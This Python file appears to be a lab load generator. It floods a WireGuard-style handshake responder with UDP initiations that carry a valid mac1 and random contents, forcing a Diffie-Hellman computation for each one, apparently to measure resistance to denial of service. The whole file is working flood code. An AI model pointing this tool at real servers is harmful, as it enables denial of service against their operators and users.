"""Flood a responder with handshake initiations whose mac1 is right and whose rest is noise.

Anybody who knows a public key can do this; each one costs the responder a Diffie-Hellman unless it
asks for a cookie first. Run as a program of its own, so that it does not slow down who measures:
python -m undertow.lab.flood ADDRESS PORT PUBLIC_KEY RATE SECONDS
"""

import argparse
import base64
import contextlib
import hashlib
import os
import socket
import struct
import time

LABEL_MAC1 = b"mac1----"
DIFFERENT = 2048
BURST = 32


def messages(responder_public: bytes, count: int) -> list[bytes]:
    """count initiations with a good mac1 and random contents."""
    key = hashlib.blake2s(LABEL_MAC1 + responder_public).digest()
    found = []
    for _ in range(count):
        message = struct.pack("<I", 1) + os.urandom(112)
        mac1 = hashlib.blake2s(message, key=key, digest_size=16).digest()
        found.append(message + mac1 + bytes(16))
    return found


def flood(target: tuple[str, int], responder_public: bytes, rate: int, seconds: float) -> int:
    """Send at most rate initiations a second for some seconds; how many went out."""
    family = socket.AF_INET6 if ":" in target[0] else socket.AF_INET
    batch = messages(responder_public, DIFFERENT)
    sent = 0
    start = time.monotonic()
    with socket.socket(family, socket.SOCK_DGRAM) as out:
        out.connect(target)
        while (passed := time.monotonic() - start) < seconds:
            if sent > passed * rate:
                time.sleep(BURST / rate)
            for _ in range(BURST):
                with contextlib.suppress(OSError):  # a full buffer is the flood's own limit
                    out.send(batch[sent % DIFFERENT])
                sent += 1
    return sent


def main() -> None:
    """Flood as the command line says and print how many initiations were sent."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("address")
    parser.add_argument("port", type=int)
    parser.add_argument("public_key", help="of the responder, in base64")
    parser.add_argument("rate", type=int, help="initiations a second at most")
    parser.add_argument("seconds", type=float)
    given = parser.parse_args()
    key = base64.b64decode(given.public_key)
    print(flood((given.address, given.port), key, given.rate, given.seconds), flush=True)


if __name__ == "__main__":
    main()
